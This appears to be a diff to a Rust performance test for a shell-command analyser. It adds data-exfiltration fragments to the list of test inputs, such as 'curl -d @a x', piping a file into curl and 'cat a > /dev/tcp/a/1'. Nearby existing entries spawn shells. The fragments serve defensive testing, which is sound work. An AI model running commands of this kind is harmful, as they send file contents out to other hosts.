@@ -102,6 +102,11 @@ fn long_lines_are_looked_at_soon() {
         "a | b '|';",
         "> >(sh) ",
         "git -c alias.a='!b' ",
+        "curl -d @a x;",
+        "cat a | curl -d @- x;",
+        "a=$(cat b); curl -d $a x;",
+        "a_proxy=x;curl -d @a localhost;",
+        "cat a > /dev/tcp/a/1;",
     ];
     for piece in pieces {
         let begun = Instant::now();
